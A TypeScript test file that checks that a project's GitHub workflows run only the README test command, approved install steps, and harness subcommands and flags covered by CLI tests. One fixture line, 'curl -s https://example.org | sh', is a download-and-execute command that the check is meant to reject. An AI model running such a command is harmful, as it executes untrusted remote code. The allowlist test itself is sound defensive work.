// The GitHub workflows call only what the project's own tests exercise: `.ci/run` (the README's test
// command), the CI package list and `npm ci`, and `qkd-harness` subcommands whose flags a CLI test uses.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';

const ROOT = join(import.meta.dirname, '..', '..');
const WORKFLOWS = join(ROOT, '.github', 'workflows');

interface Workflow {
  jobs: Record<string, { steps: Array<{ run?: string; uses?: string }> }>;
}

const commands = (file: string): string[] =>
  Object.values((parse(readFileSync(join(WORKFLOWS, file), 'utf8')) as Workflow).jobs).flatMap((j) => j.steps.flatMap((s) => (s.run ? [s.run.trim()] : [])));

/** The text of every CLI test (src/cli/*.test.ts), where `qkd-harness` subcommands are run. */
const cliTests = readdirSync(join(ROOT, 'src', 'cli'))
  .filter((f) => f.endsWith('.test.ts'))
  .map((f) => readFileSync(join(ROOT, 'src', 'cli', f), 'utf8'))
  .join('\n');

const PLUMBING = [/^bash \.ci\/run$/, /^npm ci --no-audit --no-fund$/, /^apt-get update -qq$/, /^apt-get install -y -qq --no-install-recommends \$\(grep -v '\^#' \.ci\/apt-packages\)$/];

describe('GitHub workflows', () => {
  it('ci.yml runs .ci/run, which runs exactly the README test command', () => {
    expect(commands('ci.yml')).toEqual(['bash .ci/run']);
    const readme = readFileSync(join(ROOT, 'README.md'), 'utf8');
    const ci = readFileSync(join(ROOT, '.ci', 'run'), 'utf8');
    const testCommand = /^npm test\b.*$/m.exec(readme)?.[0]?.replace(/\s+#.*$/, '');
    expect(testCommand).toBe('npm test');
    expect(ci.trimEnd().split('\n').pop()).toBe(testCommand);
  });

  it('nightly.yml calls only qkd-harness subcommands and flags that a CLI test runs, besides the installs', () => {
    const used = commands('nightly.yml');
    expect(used.filter((c) => c.startsWith('npx qkd-harness ')).length).toBeGreaterThanOrEqual(2); // the shards and the merge
    expect(unexercised(used, cliTests)).toEqual([]);
  });

  it('the check names a step no test exercises: an unknown subcommand, an untested flag, other plumbing', () => {
    const steps = ['npx qkd-harness run --shard 1/2', 'npx qkd-harness frobnicate', "npx qkd-harness report --merge ${{ format('--no-such-flag {0}', 'x') }}", 'curl -s https://example.org | sh'];
    const tests = "runCli(['run', '--shard', '1/2']); runCli(['report', '--merge', dir])";
    expect(unexercised(steps, tests)).toEqual([
      'no CLI test runs `frobnicate`',
      `no CLI test passes --no-such-flag (${steps[2]})`,
      `not an install or .ci/run: ${steps[3]}`,
    ]);
  });
});

/** What in these workflow steps no CLI test exercises, one line each (empty: all of it is exercised). */
function unexercised(steps: string[], tests: string): string[] {
  const found: string[] = [];
  for (const c of steps) {
    if (!c.startsWith('npx qkd-harness ')) {
      if (!PLUMBING.some((p) => p.test(c))) found.push(`not an install or .ci/run: ${c}`);
      continue;
    }
    const sub = c.slice('npx qkd-harness '.length).split(/\s+/)[0]!;
    if (!tests.includes(`'${sub}'`)) found.push(`no CLI test runs \`${sub}\``);
    // Every flag, also those inside a workflow expression (format('--target {0}', …)).
    for (const flag of c.match(/--[a-z][a-z-]*/g) ?? []) if (!tests.includes(`'${flag}'`)) found.push(`no CLI test passes ${flag} (${c})`);
  }
  return found;
}
